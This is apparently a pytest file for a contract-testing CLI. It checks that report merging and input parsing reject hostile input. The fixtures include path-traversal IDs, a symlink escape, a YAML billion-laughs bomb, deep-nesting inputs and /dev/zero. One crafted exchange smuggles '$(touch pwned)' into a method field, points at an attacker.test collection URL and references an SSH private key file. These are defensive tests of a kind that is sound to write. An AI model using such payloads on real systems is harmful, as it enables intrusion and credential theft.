"""Reports read back from files may have been crafted: ``report merge`` of hostile parts
writes only inside its folder, and every command it writes targets the run's own endpoint
and reads only the report's own case files."""

from __future__ import annotations

import dataclasses
import json
import shlex
import subprocess
from pathlib import Path

import pytest
from tests.forked_cli import cli

from wai_contract.conformance.http import Exchange
from wai_contract.conformance.results import CaseResult, CheckResult, Report

TARGET = "http://127.0.0.1:8787/client/v4/accounts/a/ai/run/m"
EVIL_IDS = ["../../../escaped", "/tmp/absolute", "..", "a/../../b", "x\x00y", "c" * 400]


def _part(shard: str, check_id: str, case: CaseResult) -> Report:
    check = CheckResult(check_id, "t", "d", "failed", 1, [case], 1)
    check.causes[case.cause] = [case.id]
    base = Report(TARGET, "2026-12-07T10:00:00Z", 1.0, 0, 10, 2, [check])
    return dataclasses.replace(base, shard=shard, planned=1, judged_cases=1)


def _merge(tmp_path: Path, parts: list[Report]) -> subprocess.CompletedProcess[str]:
    files = []
    for number, part in enumerate(parts):
        path = tmp_path / f"part{number}.json"
        path.write_text(json.dumps(part.to_dict()), "utf-8")
        files.append(str(path))
    return cli("report", "merge", *files, "--report-dir", str(tmp_path / "out"), cwd=tmp_path)


@pytest.mark.parametrize("evil", EVIL_IDS)
def test_every_file_lands_in_the_report_folder(tmp_path: Path, evil: str) -> None:
    big = {"prompt": "x" * 5000}
    case = CaseResult(evil, evil, "boom", "status", exchange=Exchange("POST", TARGET, big))
    parts = [_part("1/2", evil, case), _part("2/2", evil, dataclasses.replace(case, id="b"))]
    done = _merge(tmp_path, parts)
    assert done.returncode in (0, 1), done.stderr
    out = (tmp_path / "out").resolve()
    written = [p for p in tmp_path.rglob("*") if p.is_file() and not p.name.startswith("part")]
    assert written and all(p.resolve().is_relative_to(out) for p in written), written
    assert not Path("/tmp/absolute.json").exists()


def test_a_cases_link_in_the_report_folder_is_not_followed(tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "cases").symlink_to(elsewhere)
    big = {"prompt": "x" * 5000}
    case = CaseResult(
        "b-1", "accepts-valid", "boom", "status", exchange=Exchange("POST", TARGET, big)
    )
    parts = [_part("1/2", "accepts-valid", case), _part("2/2", "accepts-valid", case)]
    done = _merge(tmp_path, parts)
    assert done.returncode == 2 and done.stderr.startswith("error: cannot write the report")
    assert list(elsewhere.iterdir()) == []


def test_the_commands_written_target_the_run_and_its_own_case_files(tmp_path: Path) -> None:
    crafted = Exchange("POST $(touch pwned)", "https://attacker.test/collect", {"prompt": "hi"})
    case = CaseResult("b-1", "accepts-valid", "boom", "status", exchange=crafted)
    case.body_file = "/home/user/.ssh/id_rsa"
    parts = [_part("1/2", "accepts-valid", case), _part("2/2", "accepts-valid", case)]
    assert _merge(tmp_path, parts).returncode == 1
    report = json.loads((tmp_path / "out" / "report.json").read_text("utf-8"))
    commands = [f["curl"] for c in report["checks"] for f in c["failures"]]
    summary = (tmp_path / "out" / "summary.md").read_text("utf-8")
    assert commands and "attacker" not in summary and "id_rsa" not in summary
    for command in commands:
        words = shlex.split(command)
        assert words[4] == TARGET and "attacker" not in command and "id_rsa" not in command
        assert words[3] == "POST $(touch pwned)"  # one quoted word, never run by a shell


def _wai(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return cli(*args, cwd=cwd)


LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [*{chr(97 + n)}, *{chr(97 + n)}, *{chr(97 + n)}, "
    f"*{chr(97 + n)}, *{chr(97 + n)}, *{chr(97 + n)}, *{chr(97 + n)}, *{chr(97 + n)}]\n"
    for n in range(9)
)


@pytest.mark.parametrize(
    ("name", "text", "said"),
    [
        ("laughs.yaml", LAUGHS, "YAML aliases"),
        ("deep.yaml", "[" * 100_000 + "]" * 100_000, "nested deeper than"),
        ("deep-map.yaml", "a:\n" + "".join(" " * n + "a:\n" for n in range(1, 200)), "nested"),
    ],
)
def test_a_hostile_contract_is_refused_in_one_line(
    tmp_path: Path, name: str, text: str, said: str
) -> None:
    (tmp_path / name).write_text(text)
    done = _wai("run", "--local", "--contract", name, "--dry-run", cwd=tmp_path)
    assert done.returncode == 2 and said in done.stderr, done.stderr[-500:]
    assert len(done.stderr.strip().splitlines()) == 1


@pytest.mark.parametrize(
    ("content", "said"),
    [
        ("[" * 100_000 + "]" * 100_000, "not a wai-contract report.json"),
        ('{"target": NaN}', "NaN is not JSON"),
        (None, "larger than"),  # /dev/zero
    ],
)
def test_a_hostile_report_to_read_back_is_refused_in_one_line(
    tmp_path: Path, content: str | None, said: str
) -> None:
    path = Path("/dev/zero") if content is None else tmp_path / "report.json"
    if content is not None:
        path.write_text(content)
    for args in (
        ("report", "merge", str(path), str(path)),
        ("run", "--local", "--baseline", str(path)),
    ):
        done = _wai(*args, "--report-dir", str(tmp_path / "out"), cwd=tmp_path)
        assert done.returncode == 2 and said in done.stderr, (args, done.stderr[-500:])
        assert len(done.stderr.strip().splitlines()) == 1
        assert not (tmp_path / "out").exists(), "no empty report folder is left behind"


@pytest.mark.parametrize(
    ("args", "said"),
    [
        (("lint", "/dev/zero"), "larger than"),
        (("schemas", "diff", "/dev/zero", "/dev/zero"), "larger than"),
        (("gen", "-n", "1", "--schema", "/dev/zero"), "larger than"),
        (("run", "--local", "--dry-run", "--contract", "/dev/zero"), "larger than"),
    ],
)
def test_an_endless_input_is_refused_in_one_line(
    tmp_path: Path, args: tuple[str, ...], said: str
) -> None:
    done = _wai(*args, cwd=tmp_path)
    assert done.returncode == 2 and said in done.stderr, done.stderr[-500:]
    assert len(done.stderr.strip().splitlines()) == 1


def test_a_folder_of_any_depth_is_linted(tmp_path: Path) -> None:
    """A folder 1,200 levels deep: its body is found (a recursive walk ran out of stack)."""
    folders = [tmp_path / "deep"]
    for _ in range(1200):
        folders.append(folders[-1] / "d")
    for folder in folders:
        folder.mkdir()
    body = folders[-1] / "body.json"
    body.write_text('{"prompt": "hi", "top_k": 51}')
    try:
        done = _wai("lint", "deep", cwd=tmp_path)
    finally:  # pytest's own clean-up of tmp_path recurses, and would run out of stack
        body.unlink()
        for folder in reversed(folders):
            folder.rmdir()
    assert done.returncode == 1 and "/top_k: 51 is greater than the maximum" in done.stdout


@pytest.mark.parametrize(
    "value", ["!!set {a: null, b: null}", "!!binary aGVsbG8=", "2026-12-07", "{2026-12-07: x}"]
)
def test_what_yaml_builds_and_json_cannot_hold_is_refused(tmp_path: Path, value: str) -> None:
    contract = (
        "version: 1\nexamples:\n  - name: odd\n"
        f"    request: {{prompt: hi, extra: {value}}}\n    expect: {{status: 200}}\n"
    )
    (tmp_path / "odd.yaml").write_text(contract)
    done = _wai("run", "--local", "--contract", "odd.yaml", "--dry-run", cwd=tmp_path)
    assert done.returncode == 2 and "is not JSON" in done.stderr, done.stderr[-500:]
    assert "/examples/0/request" in done.stderr


@pytest.mark.parametrize("spoiled", ["report.json/", "report.html->elsewhere", "cases"])
def test_a_report_folder_that_cannot_take_the_report_is_refused_before_the_run(
    tmp_path: Path, spoiled: str
) -> None:
    """Found before the first request, not after the whole run (a report file that is a
    folder or a link, a cases folder that is a file)."""
    out = tmp_path / "out"
    out.mkdir()
    name, _, link = spoiled.partition("->")
    if name.endswith("/"):
        (out / name).mkdir()
    elif link:
        (out / name).symlink_to(tmp_path / link)
    else:
        (out / name).write_text("a file")
    done = _wai("run", "--local", "--report-dir", str(out), cwd=tmp_path)
    assert done.returncode == 2 and "cannot write the report" in done.stderr, done.stderr
    assert len(done.stderr.strip().splitlines()) == 1, "no progress: nothing was sent"
    assert not (tmp_path / "elsewhere").exists()
